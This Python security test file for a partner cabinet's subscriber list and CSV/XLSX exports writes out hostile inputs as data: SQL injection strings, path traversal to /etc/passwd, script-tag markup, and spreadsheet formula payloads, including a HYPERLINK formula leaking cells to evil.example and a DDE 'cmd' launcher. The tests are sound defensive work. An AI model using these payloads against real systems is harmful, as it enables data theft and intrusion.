"""Hostile and unlucky visits to the cabinet's subscribers list and its downloads: no session,
another partner's list and files, LIKE wildcards and SQL typed in the search box, addresses
with garbage or huge values, names that would run as formulas in the partner's spreadsheet
or as markup on the page."""

from __future__ import annotations

import csv
import io

import pytest
from lxml import html
from openpyxl import load_workbook

from tests.registration_api.domain.test_subscriber_search import add
from tests.registration_api.web.test_cabinet_auth import SITE, sign_in, text_of

PAGE = f"/cabinet/{SITE}/subscribers"
PATHS = (PAGE, f"{PAGE}.csv", f"{PAGE}.xlsx")


def numbers(page: str) -> list[str]:
    rows = html.fromstring(page).xpath("//section[@aria-labelledby='list']//tbody/tr/td[1]")
    return [" ".join(td.text_content().split()) for td in rows]


@pytest.fixture
def signed_in(cabinet):
    sign_in(cabinet)
    return cabinet


def test_without_a_session_the_list_and_its_files_send_to_the_sign_in(cabinet):
    add(cabinet.database, site_id=SITE)
    for path in PATHS:
        answer = cabinet.http.get(path)
        assert answer.status_code == 303 and answer.headers["location"] == "/cabinet/", path


def test_another_partners_list_and_files_are_not_found(signed_in):
    theirs = add(signed_in.database, "Чужой Клиент", site_id="buhcentr")
    mine = add(signed_in.database, "Свой Клиент", site_id=SITE)
    for site in ("buhcentr", "no-such-site", "OBLAKO-PLUS", "%2A"):
        for path in ("subscribers", "subscribers.csv", "subscribers.xlsx"):
            answer = signed_in.http.get(f"/cabinet/{site}/{path}")
            assert answer.status_code == 404, (site, path)
            assert "Такой страницы нет" in text_of(answer.text)
    assert numbers(signed_in.http.get(PAGE).text) == [mine]
    assert numbers(signed_in.http.get(PAGE, params={"q": theirs}).text) == []
    assert numbers(signed_in.http.get(PAGE, params={"q": "чужой"}).text) == []
    exported = signed_in.http.get(f"{PAGE}.csv").content.decode("utf-8-sig")
    assert theirs not in exported and "Чужой" not in exported


@pytest.mark.parametrize(
    ("typed", "name"),
    [
        ("%", "Скидка 100% Клиент"),
        ("_", "Иван_Петров"),
        ("\\", "Обратная \\ черта"),
        ("/", "ООО Рога/Копыта"),
        ("1%_", "Код 1%_"),
        ("[а-я]*", "Скобки [а-я]*"),
    ],
)
def test_like_wildcards_typed_are_only_themselves(signed_in, typed, name):
    wanted = add(signed_in.database, name, site_id=SITE)
    add(signed_in.database, "Обычный Клиент", site_id=SITE, email="plain@client.example")
    add(signed_in.database, "Ещё Один", site_id=SITE, email="other@client.example")
    assert numbers(signed_in.http.get(PAGE, params={"q": typed}).text) == [wanted]
    rows = list(csv.reader(io.StringIO(signed_in.http.get(f"{PAGE}.csv", params={"q": typed}).text), delimiter=";"))
    assert [row[0] for row in rows[1:]] == [wanted]


@pytest.mark.parametrize(
    "typed", ["' OR 1=1 --", "'; DROP TABLE subscribers; --", '" OR ""="', "1) OR (1=1", "%' OR '%'='"]
)
def test_sql_typed_in_the_box_is_text_to_find(signed_in, typed):
    add(signed_in.database, "Иван Петров", site_id=SITE)
    page = signed_in.http.get(PAGE, params={"q": typed})
    assert page.status_code == 200 and numbers(page.text) == []
    assert html.fromstring(page.text).xpath("//input[@name='q']/@value") == [typed]
    assert len(signed_in.rows("subscribers")) == 1


@pytest.mark.parametrize(
    "params",
    [
        {"q": "а" * 10_000},
        {"q": "🙂" * 300, "sort": "<script>"},
        {"page": "9" * 40},
        {"page": "-1"},
        {"page": "²"},
        {"page": "1e9"},
        {"page": "0x10"},
        {"from": "9999-12-31"},
        {"from": "0001-01-01", "to": "0001-01-02"},
        {"from": "2026-13-45"},
        {"to": "31.12.99999"},
        {"from": "2026-03-10T00:00"},
        {"status": "trial' OR '1'='1"},
        {"status": "ТРИАЛ"},
        {"source": "../../etc/passwd"},
        {"source": "*"},
        {"sort": "name; DROP TABLE subscribers"},
        {"unknown": "x" * 1000},
    ],
)
def test_garbage_in_the_address_never_breaks_the_list_or_its_files(signed_in, params):
    add(signed_in.database, "Иван Петров", site_id=SITE)
    for path in PATHS:
        answer = signed_in.http.get(path, params=params)
        assert answer.status_code in (200, 400), (path, answer.status_code)
        if answer.status_code == 400:
            assert "text/html" in answer.headers["content-type"] and 'class="error"' in answer.text


def test_a_control_character_in_the_address_is_refused_before_the_list(signed_in):
    answer = signed_in.http.get(f"{PAGE}?q=%00%1b")
    assert answer.status_code == 400


def test_of_a_repeated_parameter_the_last_counts(signed_in):
    paid = add(signed_in.database, "Платящий", site_id=SITE, status="paid")
    add(signed_in.database, "Пробный", site_id=SITE)
    page = signed_in.http.get(f"{PAGE}?status=%3Cb%3E&status=trial&status=paid")
    assert page.status_code == 200 and numbers(page.text) == [paid]


HOSTILE = '"><script>alert(1)</script><b>'
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def test_hostile_names_are_text_on_the_page(signed_in):
    add(signed_in.database, HOSTILE, site_id=SITE, company=HOSTILE, email="x@client.example")
    page = signed_in.http.get(PAGE, params={"q": HOSTILE})
    tree = html.fromstring(page.text)
    assert not tree.xpath("//script") and not tree.xpath("//main//b")
    assert HOSTILE in text_of(page.text)
    assert tree.xpath("//input[@name='q']/@value") == [HOSTILE]


def test_formulas_typed_by_prospects_never_run_in_the_csv_or_the_workbook(signed_in):
    made = {
        add(signed_in.database, formula, site_id=SITE, company=formula, gone_reason=formula, phone="+79161234567"): (
            formula
        )
        for formula in FORMULAS
    }
    rows = list(csv.reader(io.StringIO(signed_in.http.get(f"{PAGE}.csv").content.decode("utf-8-sig")), delimiter=";"))
    words = rows[0].index("Комментарий к уходу")  # the client's own words about leaving
    for row in rows[1:]:
        formula = made[row[0]]
        assert row[1] == row[2] == row[words] == "'" + formula
        assert row[5] == "+79161234567", "the phone the service stored is a number, left as it is"
    sheet = load_workbook(io.BytesIO(signed_in.http.get(f"{PAGE}.xlsx").content)).active
    for row in sheet.iter_rows(min_row=2):
        formula = made[row[0].value]
        for cell in (row[1], row[2], row[words]):
            assert cell.value == formula and cell.data_type == "s" and cell.quotePrefix, cell.coordinate
        assert row[5].value == "+79161234567" and row[5].data_type == "s"
